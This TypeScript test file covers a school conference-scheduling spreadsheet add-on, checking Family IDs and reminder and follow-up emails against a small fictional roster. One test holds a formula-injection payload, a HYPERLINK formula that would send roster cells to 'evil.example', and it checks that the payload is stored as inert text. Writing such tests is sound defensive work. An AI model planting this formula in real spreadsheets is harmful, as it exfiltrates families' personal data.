/**
 * The Family ID people read, on the built bundle: every sheet shows a family's Family ID as its
 * Roster rows give it (never the add-on's own "F-" form beside it), and a Schedule written
 * before, holding that own form ("F-F-GARCIA"), still reaches the same families: invites,
 * reminders and follow-ups send from it exactly what they send from a new one. A roster export
 * with partial Family IDs, written by hand, so every expected value is read off it:
 *
 * - Ana and Luis Garcia: Family ID "F-GARCIA" on Ana's row only; Luis's row has none and joins
 *   by Maria's address. Ana at 15:00 with Ms. Rivera, Luis at 15:40 with Mr. Okafor, one day.
 * - Kim Park: Family ID "PARK".
 * - Kofi Osei: Family ID "OSEI", a guardian in each of two households (Ama Osei, Kwame Mensah).
 * - Noor Haddad: no Family ID: shown by the id the add-on makes.
 */
import type { openSchool } from '../../preview/school';
import { EST, pastedSchool, ROSTER_HEADER, run } from './calls';
import type { SentMessage } from '../../emulator/mail';

type School = ReturnType<typeof openSchool>;

const MARIA = 'maria@garcia.example';

const ROSTER = [
  ROSTER_HEADER,
  ['S1', 'Ana', 'Garcia', '3', 'Ms. Rivera', 'F-GARCIA', 'Maria Garcia', MARIA, '', '', 'en'],
  ['S2', 'Luis', 'Garcia', '5', 'Mr. Okafor', '', 'Maria Garcia', MARIA, '', '', 'en'],
  ['S3', 'Kim', 'Park', '4', 'Ms. Chen', 'PARK', 'Jin Park', 'jin@park.example', '', '', 'en'],
  [
    'S4',
    'Kofi',
    'Osei',
    '2',
    'Mr. Haddad',
    'OSEI',
    'Ama Osei',
    'ama@osei.example',
    'Kwame Mensah',
    'kwame@mensah.example',
    'en',
  ],
  ['S5', 'Noor', 'Haddad', '1', 'Ms. Chen', '', 'Sam Haddad', 'sam@haddad.example', '', '', 'en'],
];

const TEACHERS = [
  ['Teacher', 'Email', 'Date', 'Start', 'End', 'Room', 'Capacity'],
  ['Ms. Rivera', 'rivera@lincoln.school.example', '2026-11-17', '15:00', '15:25', '101', '1'],
  ['Mr. Okafor', 'okafor@lincoln.school.example', '2026-11-17', '15:40', '16:05', '102', '1'],
  ['Ms. Chen', 'chen@lincoln.school.example', '2026-11-17', '14:00', '14:55', '103', '1'],
  ['Mr. Haddad', 'haddad@lincoln.school.example', '2026-11-17', '16:30', '16:55', '104', '1'],
];

/** The Family ID each student's family shows, as the fixture above gives it. */
const SHOWN: Record<string, string> = { S1: 'F-GARCIA', S2: 'F-GARCIA', S3: 'PARK', S4: 'OSEI' };

function scheduled(): School {
  const s = pastedSchool(ROSTER, TEACHERS);
  run(s, 'schedule');
  return s;
}

/** A sheet's rows as header → cell text. */
function rowsOf(s: School, name: string): Record<string, string>[] {
  const [header = [], ...rows] = s.emulator.spreadsheet.sheetByName(name)?.values() ?? [];
  return rows.map((r) => Object.fromEntries(header.map((h, i) => [String(h), String(r[i])])));
}

/** Writes a Schedule cell in the row of this student's conference. */
function setScheduleCell(s: School, studentId: string, column: string, text: string): void {
  const sheet = s.emulator.spreadsheet.sheetByName('Schedule')!;
  const header = sheet.values()[0]!.map(String);
  const at = rowsOf(s, 'Schedule').findIndex((r) => r['Student IDs'] === studentId);
  sheet.put(at + 2, header.indexOf(column) + 1, { v: text });
}

/** A message and the hour it left (the two reminders of a day read alike). */
const mailKey = (m: SentMessage) =>
  `${m.sentAt.slice(0, 13)}|${m.to.join(',')}|${m.subject}|${m.body}`;

/** Invites, then the reminders due two days and two hours before, then follow-ups: one asked on
 * the questionnaire, and the Garcias' availability answer typed again without their day. */
function aWeekOfMessages(s: School): void {
  run(s, 'invites');
  s.emulator.ws.clock.set(EST('2026-11-16', '12:00'));
  run(s, 'reminders');
  run(s, 'reminders');
  s.emulator.ws.clock.set(EST('2026-11-17', '13:30'));
  run(s, 'reminders');
  s.emulator.ws.clock.set(EST('2026-11-18', '12:00'));
  const ana = rowsOf(s, 'Schedule').find((r) => r['Student IDs'] === 'S1')!;
  const feedback = s.emulator.spreadsheet.sheetByName('Feedback')!;
  const header = feedback.values()[0]!.map(String);
  feedback.appendRow(
    header.map((h) =>
      h === 'Answered'
        ? '2026-11-18 10:00:00'
        : h === 'Conference ID'
          ? ana['Conference ID']
          : h === 'Follow-up'
            ? 'Yes'
            : h === 'Follow-up When'
              ? 'Tuesday after 4'
              : '',
    ),
  );
  const availability = s.emulator.spreadsheet.sheetByName('Availability')!;
  availability.appendRow(
    availability
      .values()[0]!
      .map((h) =>
        h === 'Email'
          ? MARIA
          : h === 'Date'
            ? '2026-11-19'
            : h === 'Start'
              ? '15:00'
              : h === 'End'
                ? '17:00'
                : h === 'Rank'
                  ? 1
                  : '',
      ),
  );
  run(s, 'followups');
  run(s, 'followups');
}

describe('the Family ID people read', () => {
  it('is the Roster’s own Family ID on every Schedule row, for a sibling row without one too', () => {
    const s = scheduled();
    const rows = rowsOf(s, 'Schedule');
    expect(rows).toHaveLength(5);
    for (const r of rows) {
      const shown = SHOWN[r['Student IDs']!];
      if (shown) expect(r['Family ID']).toBe(shown);
    }
    const haddad = rows.find((r) => r['Student IDs'] === 'S5')!['Family ID'];
    expect(haddad).toMatch(/^F-/);
    expect(Object.values(SHOWN)).not.toContain(haddad);
  });

  it('an older Schedule in the add-on’s own "F-" form, beside rows in the new one: the same messages, none twice', () => {
    const fresh = scheduled();
    const older = scheduled();
    // Ana's row as an older build wrote it, Luis's as a new one: one family, two forms.
    setScheduleCell(older, 'S1', 'Family ID', 'F-F-GARCIA');
    setScheduleCell(older, 'S3', 'Family ID', 'F-PARK');
    setScheduleCell(older, 'S4', 'Family ID', 'F-OSEI');
    aWeekOfMessages(fresh);
    aWeekOfMessages(older);

    const sent = older.emulator.mail.sent.map(mailKey);
    expect(sent.sort()).toEqual(fresh.emulator.mail.sent.map(mailKey).sort());
    expect(new Set(sent).size).toBe(sent.length);
    // Maria: one reminder two days before, one two hours before, naming both her children.
    const toMaria = older.emulator.mail.to(MARIA);
    expect(toMaria).toHaveLength(2);
    for (const m of toMaria) expect(m.body).toMatch(/Ana[\s\S]*Luis|Luis[\s\S]*Ana/);
    // Every conference has its one event, in either form.
    const events = (s: School) =>
      rowsOf(s, 'Schedule')
        .map((r) => r['Event ID'])
        .filter(Boolean);
    expect(new Set(events(older)).size).toBe(5);
    expect(events(fresh)).toHaveLength(5);
    // The follow-ups (the question asked, and the change of time for each Garcia conference)
    // list the family as the Roster names it.
    const followUps = rowsOf(older, 'Follow-ups').map((r) => [r['Student IDs'], r['Family ID']]);
    expect(followUps.sort()).toEqual([
      ['S1', 'F-GARCIA'],
      ['S1', 'F-GARCIA'],
      ['S2', 'F-GARCIA'],
    ]);
  });

  it('writes a Family ID that Sheets would read as a formula as text, and reminds its family', () => {
    const LEAK = '=HYPERLINK("https://evil.example/?"&ENCODEURL(Roster!A1:Z999))';
    const s = pastedSchool(ROSTER, TEACHERS);
    const roster = s.emulator.spreadsheet.sheetByName('Roster')!;
    const noor = roster.values().findIndex((r) => r[0] === 'S5') + 1;
    roster.put(noor, ROSTER_HEADER.indexOf('Family ID') + 1, { v: LEAK, nf: '@' });
    run(s, 'schedule');
    const ss = s.emulator.globals.SpreadsheetApp.getActiveSpreadsheet()!;
    const row = rowsOf(s, 'Schedule').findIndex((r) => r['Student IDs'] === 'S5') + 2;
    const header = s.emulator.spreadsheet.sheetByName('Schedule')!.values()[0]!.map(String);
    const cell = ss.getSheetByName('Schedule')!.getRange(row, header.indexOf('Family ID') + 1);
    expect({ formula: cell.getFormula(), value: cell.getValue() }).toEqual({
      formula: '',
      value: LEAK,
    });
    s.emulator.ws.clock.set(EST('2026-11-16', '12:00'));
    run(s, 'reminders');
    expect(s.emulator.mail.to('sam@haddad.example')).toHaveLength(1);
  });
});
